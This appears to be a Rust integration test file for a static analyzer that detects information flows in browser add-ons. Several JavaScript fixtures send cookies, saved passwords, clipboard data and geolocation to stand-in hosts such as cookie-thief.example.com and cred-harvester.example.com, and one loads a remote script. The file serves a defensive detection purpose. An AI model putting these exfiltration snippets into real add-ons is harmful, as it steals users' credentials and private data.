//! Cross-crate integration tests for behaviors that span the whole
//! pipeline: event-loop recency, configurable policies, API reporting,
//! and the report surface (JSON, witnesses, timings).

use addon_sig::{analyze_addon, Error, Pipeline};
use jsanalysis::{AnalysisConfig, BudgetKind, SinkKind, SourceKind, StringDomain};
use jsdomains::Pre;
use jssig::FlowType;

fn t(n: u8) -> FlowType {
    FlowType(n - 1)
}

#[test]
fn handler_locals_stay_precise_across_event_loop_iterations() {
    // The recency-abstraction regression test: locals of an event handler
    // must remain strongly updatable even though the handler re-runs on
    // every event-loop iteration.
    let report = analyze_addon(
        r#"
function onLoad() {
  var url = content.location.href;
  var req = new XMLHttpRequest();
  req.open("GET", "http://precise.example.com/r?u=" + encodeURIComponent(url));
  req.send(null);
}
gBrowser.addEventListener("load", onLoad, true);
"#,
    )
    .unwrap();
    let entry = report
        .signature
        .flows
        .iter()
        .find(|e| e.source == SourceKind::Url)
        .expect("url flow");
    assert_eq!(entry.flow, t(1), "handler flow must stay datastrong");
    assert!(entry
        .sink
        .domain
        .known_text()
        .unwrap()
        .starts_with("http://precise.example.com"));
}

#[test]
fn cookie_source_flows() {
    let report = analyze_addon(
        r#"
var c = document.cookie;
var req = XHRWrapper("http://cookie-thief.example.com/c");
req.send(c);
"#,
    )
    .unwrap();
    assert!(report
        .signature
        .flows
        .iter()
        .any(|e| e.source == SourceKind::Cookie && e.flow == t(1)));
}

#[test]
fn password_source_flows() {
    let report = analyze_addon(
        r#"
var logins = loginManager.getAllLogins();
var req = XHRWrapper("http://cred-harvester.example.com/up");
req.send(logins);
"#,
    )
    .unwrap();
    assert!(
        report
            .signature
            .flows
            .iter()
            .any(|e| e.source == SourceKind::Password),
        "password exfiltration missed:\n{}",
        report.signature
    );
}

#[test]
fn clipboard_source_flows() {
    let report = analyze_addon(
        r#"
var data = clipboard.read();
var req = XHRWrapper("http://paste.example.com/save");
req.send(data);
"#,
    )
    .unwrap();
    assert!(report
        .signature
        .flows
        .iter()
        .any(|e| e.source == SourceKind::Clipboard));
}

#[test]
fn geolocation_callback_flow() {
    let report = analyze_addon(
        r#"
navigator.geolocation.getCurrentPosition(function (pos) {
  var req = XHRWrapper("http://tracker.example.com/loc");
  req.send(pos.coords.latitude + "," + pos.coords.longitude);
});
"#,
    )
    .unwrap();
    assert!(
        report
            .signature
            .flows
            .iter()
            .any(|e| e.source == SourceKind::Geoloc),
        "geolocation flow missed:\n{}",
        report.signature
    );
}

#[test]
fn source_config_filters_reported_kinds() {
    let src = r#"
var c = document.cookie;
var req = XHRWrapper("http://sink.example.com/x");
req.send(c);
"#;
    // Default: cookie flows are reported.
    let full = analyze_addon(src).unwrap();
    assert!(full
        .signature
        .flows
        .iter()
        .any(|e| e.source == SourceKind::Cookie));
    // With cookies removed from the interesting set: silence.
    let config = AnalysisConfig::default().with_sources([SourceKind::Url]);
    let filtered = Pipeline::new().config(config).run(src).unwrap();
    assert!(filtered.signature.flows.is_empty());
    // The sink-only entry remains either way (Figure 3's bare `sink`).
    assert!(!filtered.signature.sinks.is_empty());
}

#[test]
fn constant_string_ablation_loses_domains() {
    let src = r#"
var u = content.location.href;
var req = new XMLHttpRequest();
req.open("GET", "http://keeps-prefix.example.com/q?u=" + u);
req.send(null);
"#;
    let prefix = analyze_addon(src).unwrap();
    let sink = prefix.signature.sinks.iter().next().unwrap();
    assert!(sink.domain.known_text().unwrap().contains("keeps-prefix"));

    let config = AnalysisConfig::default().with_string_domain(StringDomain::ConstantOnly);
    let constant = Pipeline::new().config(config).run(src).unwrap();
    let sink = constant.signature.sinks.iter().next().unwrap();
    assert!(
        sink.domain.known_text().unwrap_or("").is_empty(),
        "constant-only domain should be unknown, got {}",
        sink.domain
    );
}

#[test]
fn deprecated_apis_reported() {
    let report = analyze_addon("var s = escape(\"a b\"); window.openDialog();").unwrap();
    assert!(report.signature.apis.contains("escape"));
    assert!(report.signature.apis.contains("window.openDialog"));
}

#[test]
fn scriptloader_is_both_api_and_sink() {
    let report = analyze_addon(
        "Services.scriptloader.loadSubScript(\"https://cdn.example.com/inject.js\");",
    )
    .unwrap();
    assert!(report
        .signature
        .apis
        .contains("Services.scriptloader.loadSubScript"));
    assert!(report.signature.sinks.iter().any(|s| s
        .domain
        .known_text()
        .unwrap_or("")
        .contains("cdn.example.com")));
}

#[test]
fn json_report_shape() {
    let report = analyze_addon(
        "var u = content.location.href; var r = XHRWrapper(\"http://j.example/x\"); r.send(u);",
    )
    .unwrap();
    let json = minijson::Json::parse(&report.signature.to_json()).expect("valid json");
    assert!(json["flows"].as_array().is_some_and(|a| !a.is_empty()));
    assert_eq!(json["flows"][0]["flow"], "type1");
    assert!(json["sinks"].as_array().is_some());
    let lines = json["flows"][0]["witness_lines"].as_array().unwrap();
    assert!(!lines.is_empty(), "witness lines present");
}

#[test]
fn timings_are_populated() {
    let report = analyze_addon("var x = 1;").unwrap();
    // Phases are measured (they may be sub-microsecond but not absurd).
    let t = report.timings;
    assert!(t.phase(1).as_nanos() > 0);
    assert!(t.phase(2).as_nanos() > 0);
    assert!(t.phase(3).as_nanos() > 0);
    assert!(t.total() >= t.phase(1) + t.phase(2) + t.phase(3));
}

#[test]
fn step_limit_surfaces_as_error() {
    let config = AnalysisConfig::default().with_max_steps(1);
    let r = Pipeline::new().config(config).run("var a = 1; var b = a;");
    assert!(matches!(
        r,
        Err(Error::Budget {
            kind: BudgetKind::SafetyValve,
            ..
        })
    ));
}

#[test]
fn multiple_sinks_distinguished_by_domain() {
    let report = analyze_addon(
        r#"
var u = content.location.href;
var first = XHRWrapper("http://one.example.com/a");
first.send(u);
var second = XHRWrapper("http://two.example.com/b");
second.send("constant");
"#,
    )
    .unwrap();
    // The URL flows only to the first sink.
    let url_domains: Vec<&str> = report
        .signature
        .flows
        .iter()
        .filter(|e| e.source == SourceKind::Url)
        .filter_map(|e| e.sink.domain.known_text())
        .collect();
    assert!(url_domains.iter().all(|d| d.contains("one.example.com")));
    // Both sinks appear as sink-only entries.
    assert_eq!(report.signature.sinks.len(), 2);
}

#[test]
fn open_on_one_of_several_receivers_keeps_the_others_url() {
    // `r` is `a` or `b`, so `r.open` may not have opened `a`: on the path
    // where `r` is `b`, `a` still sends to its first URL, and the send's
    // domain must admit both.
    let report = analyze_addon(
        r#"
var a = new XMLHttpRequest();
var b = new XMLHttpRequest();
a.open("GET", "http://a.example.com/");
var r = a;
if (Math.random() < 0.5) { r = b; }
r.open("GET", "http://evil.example.com/");
a.send(null);
"#,
    )
    .unwrap();
    let sends: Vec<&Pre> = report
        .signature
        .sinks
        .iter()
        .filter(|s| s.kind == SinkKind::Send)
        .map(|s| &s.domain)
        .collect();
    assert_eq!(sends.len(), 1, "one send: {sends:?}");
    for url in ["http://a.example.com/", "http://evil.example.com/"] {
        assert!(
            sends[0].may_be(url),
            "send domain {} misses {url}",
            sends[0]
        );
    }
}

#[test]
fn whole_corpus_analyzes_within_budget() {
    for addon in corpus::addons() {
        let report = analyze_addon(addon.source).unwrap_or_else(|e| panic!("{}: {e}", addon.name));
        assert!(
            report.analysis.steps < 500_000,
            "{} took {} steps",
            addon.name,
            report.analysis.steps
        );
        // Every corpus addon communicates over the network.
        assert!(
            !report.signature.sinks.is_empty(),
            "{} produced no sinks",
            addon.name
        );
    }
}

/// The triage golden: turning on [`AnalysisConfig::triage`] (as every
/// service config does) never changes a signature. Over the corpus, the
/// attack gallery and the benign shape that dominates a vetting queue,
/// the triaged signature JSON is byte-identical to the default run's,
/// and phase 2 is skipped exactly where phase 1 proves no flow can exist.
#[test]
fn triage_never_changes_corpus_gallery_or_benign_signatures() {
    let triage = AnalysisConfig::default().with_triage(true);
    let suite: Vec<(String, String)> = corpus::addons()
        .into_iter()
        .map(|a| (a.name.to_owned(), a.source.to_owned()))
        .chain(
            corpus::attacks::attacks()
                .into_iter()
                .map(|a| (a.name.to_owned(), a.source.to_owned())),
        )
        .chain((0..3).map(|i| (format!("benign_{i}"), corpus::benign_addon(i))))
        .collect();
    let mut skipped = Vec::new();
    for (name, source) in &suite {
        let full = analyze_addon(source).unwrap_or_else(|e| panic!("{name}: {e}"));
        let fast = Pipeline::new()
            .config(triage.clone())
            .run(source)
            .unwrap_or_else(|e| panic!("{name}: {e}"));
        assert_eq!(
            fast.signature.to_json(),
            full.signature.to_json(),
            "{name}: triage changed the signature"
        );
        assert!(!full.triaged, "{name}: triage is off by default");
        assert_eq!(
            fast.triaged,
            jssig::flows_impossible(&fast.analysis),
            "{name}: phase 2 must be skipped exactly when no flow is possible"
        );
        if fast.triaged {
            assert_eq!(
                fast.pdg.edge_count(),
                0,
                "{name}: a triaged run builds no PDG"
            );
            skipped.push(name.as_str());
        }
    }
    let benign: Vec<&str> = skipped
        .iter()
        .copied()
        .filter(|n| n.starts_with("benign_"))
        .collect();
    assert_eq!(
        benign,
        ["benign_0", "benign_1", "benign_2"],
        "every benign shape skips"
    );
    assert_eq!(
        skipped.len() - benign.len(),
        5,
        "corpus and gallery addons that skip phase 2: {skipped:?}"
    );
}
